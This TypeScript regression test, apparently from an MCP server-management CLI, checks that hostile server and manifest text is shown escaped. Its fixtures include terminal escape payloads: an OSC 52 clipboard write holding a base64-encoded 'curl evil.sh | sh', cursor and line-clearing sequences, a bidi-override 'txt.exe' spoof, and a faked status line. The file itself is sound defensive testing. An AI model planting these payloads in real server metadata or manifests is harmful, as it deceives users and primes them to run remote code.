// Finding 13 of issue 11: terminal escapes from servers and configs were printed raw (`mcp probe`
// printed serverInfo.name; `mcp show` and `list` printed display names and descriptions), so a
// hostile server or manifest could retitle the window, clear the screen, hide or reorder text.
// Replayed with the built CLI against a real hostile MCP server and a manifest from a "repository".
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { cli, ROOT, tempDir } from '../helpers/cli.ts';

const SERVER = path.join(ROOT, 'test', 'fixtures', 'servers', 'terminal-escapes.mjs');
/** What a terminal obeys: C0 but newline, DEL, C1, bidi embeddings, overrides and isolates. */
const UNSAFE = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/u;
const DISPLAY = 'Notes\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
const DESCRIPTION = 'Takes notes\u001b[1A\u001b[2K\u202Etxt.exe';

test('human output shows control characters escaped, whatever a server or a manifest put in a name, a title or a description; --json stays exact', (t) => {
  const home = tempDir(t, 'mcp-warden-home-');
  const run = (...args: string[]) => cli(['--home', home, ...args]);
  const manifest = path.join(tempDir(t, 'mcp-warden-repo-'), 'servers.yaml');
  // YAML double-quoted strings carry the escapes as a repository's manifest would (\e is ESC).
  const yaml = (s: string) => JSON.stringify(s).replace(/\\u001b/g, '\\e').replace(/\\u0007/g, '\\a');
  writeFileSync(manifest, `version: 1\nservers:\n  - name: evil\n    display_name: ${yaml(DISPLAY)}\n    description: ${yaml(DESCRIPTION)}\n    transport: stdio\n    command: ${JSON.stringify(process.execPath)}\n    args: [${JSON.stringify(SERVER)}]\n`);
  const applied = run('apply', '-f', manifest);
  assert.equal(applied.code, 0, applied.stderr);

  const probed = run('mcp', 'probe', 'evil', '--yes');
  assert.equal(probed.code, 0, probed.stderr);
  assert.match(probed.stdout, /^✓ evil: evil\\u001B\]0;pwned\\u0007\\u001B\[2J\\u202Egnp\.exe 1\.0\\u009B31m, 1 tools/, 'serverInfo is shown escaped');
  assert.equal(probed.stdout.split('\n').filter((l) => l.startsWith('✓')).length, 1, 'no line can be faked');

  for (const args of [['mcp', 'show', 'evil'], ['mcp', 'list'], ['mcp', 'probe', 'evil', '--yes'], ['alerts', '--state', 'all'], ['audit']]) {
    const out = run(...args);
    assert.ok(out.code === 0 || out.code === 1, `${args.join(' ')}: ${out.stderr}`);
    assert.doesNotMatch(out.stdout, UNSAFE, `${args.join(' ')} printed a raw control character: ${JSON.stringify(out.stdout.match(UNSAFE)?.[0])}`);
    assert.doesNotMatch(out.stderr, UNSAFE, `${args.join(' ')} wrote a raw control character on stderr`);
  }
  const show = run('mcp', 'show', 'evil').stdout;
  assert.match(show, /^Display name: +Notes\\u001B\]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007$/m);
  assert.match(show, /^Description: +Takes notes\\u001B\[1A\\u001B\[2K\\u202Etxt\.exe$/m);
  assert.match(show, /^Pinned tool: +read\\u001B\[8mhidden\\u001B\[0m\\u000A✓ other: fake line {2}sha256:/m, 'a tool name cannot break its line');
  assert.match(run('mcp', 'list').stdout, /Takes notes\\u001B\[1A/);

  // A name that reaches an error message (here from the command line) is escaped on stderr too.
  const missing = run('mcp', 'show', 'x\u001b[2Jy');
  assert.equal(missing.code, 1);
  assert.match(missing.stderr, /x\\u001B\[2Jy/);

  // --json is for programs: the exact strings, escaped only as JSON escapes them.
  const json = JSON.parse(run('mcp', 'show', 'evil', '--json').stdout) as { server: { display_name: string; description: string }; pin: { entries: { key: string }[] } };
  assert.equal(json.server.display_name, DISPLAY);
  assert.equal(json.server.description, DESCRIPTION);
  assert.equal(json.pin.entries[0]?.key, 'read\u001b[8mhidden\u001b[0m\n✓ other: fake line');
});
